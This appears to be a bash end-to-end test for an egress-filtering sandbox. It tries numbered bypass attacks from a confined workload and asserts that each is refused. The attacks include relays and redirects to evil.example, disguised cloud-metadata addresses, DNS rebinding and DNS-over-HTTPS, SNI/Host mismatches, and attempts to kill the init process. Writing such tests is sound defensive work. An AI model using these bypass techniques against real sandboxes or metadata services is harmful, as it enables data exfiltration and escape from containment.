#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Known ways around an egress filter, by their numbers in docs/attacks.md, as far as no other test of
# this folder tries them.
# shellcheck disable=SC2016 # what stands in single quotes runs inside

. "$(dirname "$0")/../lib/e2e.sh"
world_enter "$@"
world_up

# Attack 38 ends by a timeout: it runs beside the others and is looked at in the end.
half_a_hello() {
	local start=$SECONDS
	audit_log=$WORLD/log/slow confined names python3 - <<-'END'
		import socket
		s = socket.create_connection(("api.openai.com", 443), 20)
		s.settimeout(90)
		s.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
		s.recv(100)
	END
	echo $((SECONDS - start)) >"$WORLD/tmp/slow"
}
half_a_hello >/dev/null 2>&1 &
slow=$!

# ---- the first bytes of TLS ----
for a in "$OPENAI4" "$OPENAI6"; do
	tap_import "$(confined names sh -c 'getent ahosts api.openai.com >/dev/null; exec python3 "$@"' \
		- "$CLIENTS/hellos.py" api.openai.com "$a" 2>&1)"
	for why in sni-missing sni-invalid tls-malformed unknown-protocol; do
		audited "attacks 1, 22, 27: the reason $why" '"deny"' "$(reason $why)"
	done
done
unseen "no hello of these arrived under another name" 'sni=(-|[^a]|a[^p])'

# ---- sockets ----
sniff_start sockets
audit_log=$WORLD/log/nobody SUDO_UID=65534 SUDO_GID=65534 confined names python3 "$CLIENTS/socket_cases.py" $EVIL4 $EVIL6 >"$WORLD/tmp/nobody" 2>&1 &
nobody=$!
tap_import "$(confined names python3 "$CLIENTS/socket_cases.py" $EVIL4 $EVIL6 2>&1)"
wait $nobody
tap_import "$(cat "$WORLD/tmp/nobody")"
socat ABSTRACT-LISTEN:exeat-outside,fork SYSTEM:'echo OUTSIDE' >/dev/null 2>&1 &
world_wait 60 grep -q @exeat-outside /proc/net/unix
out=$(confined names socat -T3 - ABSTRACT-CONNECT:exeat-outside 2>&1 </dev/null)
hasnt "attack 75: an abstract socket of the host" "$out" OUTSIDE
has "attack 75: which answers the host" "$(socat -T20 -t20 - ABSTRACT-CONNECT:exeat-outside 2>&1 </dev/null)" OUTSIDE
out=$(confined names unshare -Urn sh -c 'ip link set lo up; ip tuntap add t0 mode tun; ip link; curl -sm60 http://169.254.169.254/' 2>&1)
hasnt "attack 76: a namespace inside the namespace" "$out" SECRET
out=$(: >"$WORLD/tmp/secret" && exec 7<>"$WORLD/tmp/secret" && confined names sh -c 'ls -l /proc/self/fd/' 2>&1)
hasnt "attack 77: a descriptor of the caller" "$out" 'tmp/secret'
has "attack 77: but its standard output" "$out" ' 1 -> '
sniff_stop sockets
same "nothing of it arrived" "$(sniff_print sockets "host $EVIL4 or host $EVIL6")" ""

# ---- names and ports ----
confined names sh -c 'getent ahosts api.openai.com >/dev/null
	for p in 22 25 80 53 443 853 8443 8080; do nc -zw60 203.0.113.10 $p && echo open $p; done' >"$WORLD/tmp/ports" 2>&1
same "attack 13: a rule for 443 opens no other port" "$(grep open "$WORLD/tmp/ports")" 'open 443'
out=$(confined names dig +time=10 +tries=1 rebind.test 2>&1)
has "attack 10: *.rebind.test is not rebind.test" "$out" REFUSED
world_forget
out=$(confined names dig +time=10 +tries=1 xgood.rebind.test.evil.example 2>&1)
has "attack 12: a name that only contains the pattern" "$out" 'REFUSED|NXDOMAIN'
refuse "attack 12: its zone hears nothing" asked xgood.rebind.test.evil.example
out=$(confined names dig +time=10 +tries=1 xn--pi-5cd.openai.com 2>&1)
has "attack 11: a homograph" "$out" REFUSED
out=$(confined names curl -sSm60 -o /dev/null -w '%{http_code}' --noproxy '*' https://api.openai.com/plain 2>&1)
has "attack 70: proxy variables mean nothing" "$out" 200
out=$(HTTPS_PROXY=http://203.0.113.66:80 confined names curl -sSm60 https://api.openai.com/plain 2>&1)
hasnt "attack 70: nor does a proxy outside help" "$out" '^ok|evil$|stolen'
relayed() { # SERVER NAME PATH: by a relay of the workload's own
	confined names bash -c 'socat TCP-LISTEN:3128,bind=127.0.0.1,fork TCP4:"$1":443 &
		until ss -Hltn sport = :3128 | grep -q .; do sleep 0.05; done
		curl -sSkm60 -w " %{http_code}" -H "Host: $2" --resolve "$2:3128:127.0.0.1" "https://$2:3128$3"; kill $!' - "$@" 2>&1
}
has "attack 32: a relay inside reaches what its workload may" "$(relayed api.openai.com api.openai.com /plain)" ' 200$'
hasnt "attack 32: and no more" "$(relayed "$EVIL4" evil.example /)" '(ok|evil|stolen) 200$'
out=$(confined names bash -c 'exec -a exeat curl -sSkm60 -w "%{http_code}" --resolve "evil.example:443:$1" https://evil.example/' - "$EVIL4" 2>&1)
hasnt "attack 88: another program's name gives nobody its rights" "$out" '^(ok|evil)|stolen|200$'
for to in to-metadata to-evil; do
	world_forget
	out=$(confined names curl -sSLm60 "https://api.openai.com/$to" 2>&1)
	hasnt "attack 33: a redirect, $to" "$out" 'SECRET|evil$|stolen'
	unseen "attack 33: arrives nowhere" '^(203\.0\.113\.66|169\.254|2001:db8:113::66)'
done
for server in 8.8.8.8 2001:4860:4860::8888; do
	for how in '-p 5300' '-p 5300 +tcp' '-p 853 +tcp' '-p 53 +tcp'; do
		# shellcheck disable=SC2086 # two words
		out=$(confined names dig +time=10 +tries=1 $how "@$server" api.openai.com 2>&1)
		hasnt "attack 58: DNS at $server, $how" "$out" '203\.0\.113\.10'
	done
done
has "attack 58: the same question at the gate" "$(confined names dig +time=10 +tries=1 api.openai.com 2>&1)" '203\.0\.113\.10'
out=$(confined names curl -sSm60 https://8.8.8.8/dns-query 2>&1)
hasnt "attack 59: DNS over HTTPS by address" "$out" '^(ok|evil)'
out=$(confined names curl -sSm60 https://dns.google/dns-query 2>&1)
has "attack 59: DNS over HTTPS by name" "$out" 'resolve'

# ---- HTTP/2 ----
for how in --http1.1 --http2; do
	out=$(confined names curl -sS $how -m60 -w ' %{http_code}' https://api.openai.com/plain 2>&1)
	has "attack 25: $how: the same allow" "$out" '200$'
	out=$(confined names curl -sS $how -m60 -w ' %{http_code}' -X DELETE https://api.openai.com/plain 2>&1)
	has "attack 25: $how: the same deny" "$out" '403$'
	has "attack 25: $how: with its reason" "$out" "$(reason http-denied)"
	out=$(confined names curl -sS $how -m60 -w ' %{http_code}' -H 'Host: evil.shared.test' https://ok.shared.test/ 2>&1)
	has "attacks 14, 21: $how: another authority behind the SNI" "$out" '421$'
done
unseen "attacks 14, 21: arrived nowhere" 'host=evil'
out=$(confined names curl -sSm60 --http2-prior-knowledge http://good.rebind.test/ 2>&1)
hasnt "attack 26: prior-knowledge h2c" "$out" '^evil'

# ---- addresses that hide others, under a policy that opens the world ----
sniff_start hidden
hidden=('[::ffff:169.254.169.254]' '[::169.254.169.254]' '[64:ff9b::a9fe:a9fe]' '[64:ff9b:1::a9fe:a9fe]'
	'[2002:a9fe:a9fe::1]' '[2001:0:a9fe:a9fe::5601:5601]' '[fd00:ec2::254]' '[fd20:ce::254]' '[fe80::a9fe:a9fe%25eth0]'
	168.63.129.16 100.100.100.200 192.0.0.192 169.254.170.2 169.254.170.23 '[fd00:ec2::23]'
	0.0.0.0 127.1 255.255.255.255 224.0.0.1 240.0.0.1 '[::]' '[::1]' '[ff02::1]'
	'[::ffff:127.0.0.1]' '[64:ff9b::7f00:1]' "[::ffff:$OUTER4]" "[64:ff9b::c633:6402]" "[2002:c633:6402::1]")
# all at once: what is not refused waits
confined world sh -c 'for a; do for port in 80 9009; do
	curl -sSgm10 "http://$a:$port/" >"$0-$a-$port" 2>&1 & done; done; wait' \
	"$WORLD/tmp/hidden" "${hidden[@]}" "$EVIL4" "[$EVIL6]"
for a in "$EVIL4" "[$EVIL6]"; do
	has "attacks 43-50: $a, which hides nothing, is open" "$(cat "$WORLD/tmp/hidden-$a-80")" '^stolen'
done
for a in "${hidden[@]}"; do
	for port in 80 9009; do
		check "attacks 43-50: $a port $port was tried" test -s "$WORLD/tmp/hidden-$a-$port"
		hasnt "attacks 43-50: $a port $port, the world being open" "$(cat "$WORLD/tmp/hidden-$a-$port")" 'SECRET|HOST-SERVICE'
	done
done
sniff_stop hidden
same "attacks 43-50: none of them was tried outside" "$(sniff_print hidden "(tcp[tcpflags] & tcp-syn != 0 or (ip6 and tcp)) and not host $EVIL4 and not host $EVIL6")" ""

# ---- the proxy cannot be talked to, the run not be changed from inside ----
out=$(confined names sh -c 'for p in 1 53 80 443 8080 15001 15002 9090; do for a in 192.0.0.1 fd7e:a7c3:1b5d::1; do
	nc -zw60 $a $p && echo open $a $p; done; done; ls -la /proc/1/fd /proc/1/root 2>&1; kill -KILL 1 && echo killed' 2>&1)
same "attack 85: no port of the gateway but DNS answers" "$(grep open <<<"$out")" \
	$'open 192.0.0.1 53\nopen fd7e:a7c3:1b5d::1 53'
hasnt "attack 85: the init's files are not to be seen" "$out" 'bpf|socket:'
sniff_start first
for _ in 1 2 3; do
	confined names curl -sSm60 http://169.254.169.254/ >>"$WORLD/tmp/first" 2>&1
	for a in "$EVIL4" "$EVIL6" "$ECHO4"; do
		confined l4 python3 "$CLIENTS/hello.py" udp "$a" 7777 >/dev/null 2>&1
	done
done
sniff_stop first
hasnt "attack 80: the first packet of a run meets the gates" "$(cat "$WORLD/tmp/first")" SECRET
same "attack 80: and no denied one leaves" "$(sniff_print first "host $EVIL4 or host $EVIL6 or host $META4")" ""
same "attack 80: one that is allowed does, each time" "$(sniff_count first "udp and dst host $ECHO4 and dst port 7777")" 3

# ---- who begins and does not go on ----
wait $slow
check "attack 38: the beginning of a hello is waited for, not for ever" test "$(cat "$WORLD/tmp/slow")" -lt 60
audit_log=$WORLD/log/slow audited "attack 38: and ends with its reason" '"deny"' "$(reason timeout)"

tap_done
